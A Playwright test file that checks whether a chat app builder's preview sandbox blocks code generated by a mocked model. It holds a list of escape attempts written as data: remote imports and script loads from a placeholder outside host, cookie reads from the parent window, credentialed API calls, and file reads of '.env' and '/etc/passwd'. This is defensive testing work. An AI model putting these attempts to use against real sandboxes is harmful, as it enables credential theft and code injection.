import { expect, type Request } from "@playwright/test";
import { startExternalServer } from "../support/external-server";
import { ChatBuilder } from "./pages/chat-builder";
import { test } from "./pages/model-world";

const fence = (path: string, code: string) => `### ${path}\n\n\`\`\`tsx\n${code}\n\`\`\`\n\n`;

/** Each ends with what it got hold of, or with the error's name. `OWN` and `AWAY` are addresses of servers. */
const attempts = {
  "import from another server": "import('AWAY/module.js').then(() => 'imported')",
  "import from our API": "import('OWN/api/health').then(() => 'imported')",
  "import of a page": "import('OWN/chat').then(() => 'imported')",
  "request to our API": "fetch('OWN/api/trpc/chat.list', { credentials: 'include' }).then(() => 'answered')",
  "request to another server": "fetch('AWAY/fetched').then(() => 'answered')",
  XMLHttpRequest:
    "new Promise((yes, no) => { const r = new XMLHttpRequest(); r.onload = () => yes('answered'); r.onerror = () => no(new TypeError()); r.open('GET', 'AWAY/xhr'); r.send(); })",
  "script element":
    "new Promise((yes, no) => { const s = document.createElement('script'); s.src = 'AWAY/s.js'; s.onload = () => yes('ran'); s.onerror = () => no(new TypeError()); document.head.append(s); })",
  "own import map":
    "(() => { const s = document.createElement('script'); s.type = 'importmap'; s.textContent = JSON.stringify({ imports: { gift: 'AWAY/gift.js' } }); document.head.append(s); return import('gift').then(() => 'imported'); })()",
  "worker from a blob":
    "new Promise((yes, no) => { const w = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); w.onmessage = () => yes('ran'); w.onerror = () => no(new TypeError()); })",
  "window of the app": "Promise.resolve().then(() => top.document.cookie)",
  "frame around": "Promise.resolve().then(() => parent.document.title)",
  "real storage":
    "Promise.resolve().then(() => document.body.appendChild(document.createElement('iframe')).contentWindow.localStorage.length)",
};

test("a project's modules reach no address, no other file and nothing of the app", async ({
  page,
  baseURL,
  world: { model },
}) => {
  const outside = await startExternalServer("export default 1");
  const filled = JSON.stringify(Object.entries(attempts))
    .replaceAll("OWN", baseURL ?? "")
    .replaceAll("AWAY", outside.url);
  const requested: Request[] = [];
  const chat = new ChatBuilder(page);
  await chat.open();
  page.on("request", (request) => requested.push(request));
  model.reply({
    tokens: [
      fence("src/__proto__.ts", "export const polluted = ({} as any).polluted ?? 'clean';"),
      fence(
        "src/App.tsx",
        `import { useEffect, useState } from "react";
import { polluted } from "./__proto__";

const attempts: [string, string][] = ${filled};

export default function App() {
  const [found, setFound] = useState<string[]>([]);
  useEffect(() => {
    for (const [name, code] of attempts) {
      new Promise((resolve) => resolve((0, eval)(code))).then(
        (got) => setFound((all) => [...all, name + ": " + got]),
        (error) => setFound((all) => [...all, name + ": " + error.name]),
      );
    }
  }, []);
  return <ul><li>{polluted}</li>{found.map((each) => <li key={each}>{each}</li>)}</ul>;
}`,
      ),
    ],
  });
  await chat.sendAndSeeReply("Try everything");
  const found = chat.previewPage.getByRole("listitem");
  await expect(found).toHaveCount(Object.keys(attempts).length + 1, { timeout: 20_000 });
  const results = Object.fromEntries((await found.allTextContents()).map((text) => text.split(": ")));
  expect(results).toEqual({
    clean: undefined,
    ...Object.fromEntries(Object.keys(attempts).map((name) => [name, expect.stringMatching(/Error$/)])),
  });
  expect(outside.requests).toEqual([]);
  // A module of our own server may be asked for, but as a stranger, and without reading what is answered.
  const asked = requested.filter((request) => /\/api\/health$|trpc\/chat\.list|\/chat$/.test(request.url()));
  for (const request of asked) expect((await request.allHeaders()).cookie).toBeUndefined();
  await outside.close();
});

test("an import finds no file outside of its project", async ({ page, world: { model } }) => {
  const chat = new ChatBuilder(page);
  for (const name of ["../../.env", "/etc/passwd", "~/env", "node:fs"]) {
    await chat.open();
    model.reply({
      tokens: [
        fence(
          "src/App.tsx",
          `import got from "${name}";\nexport default () => <h1>Got {JSON.stringify(got)}</h1>;`,
        ),
      ],
    });
    await chat.sendAndSeeReply("Read a file");
    await page.getByRole("button", { name: /^Console/ }).click();
    const lines = page.getByRole("list", { name: "Console" });
    await expect(lines).toContainText(`src/App.tsx imports "${name}"`);
    // What stands in for the file holds nothing.
    await expect(chat.previewPage.getByRole("heading")).toHaveText(/^Got\s*$/);
  }
});
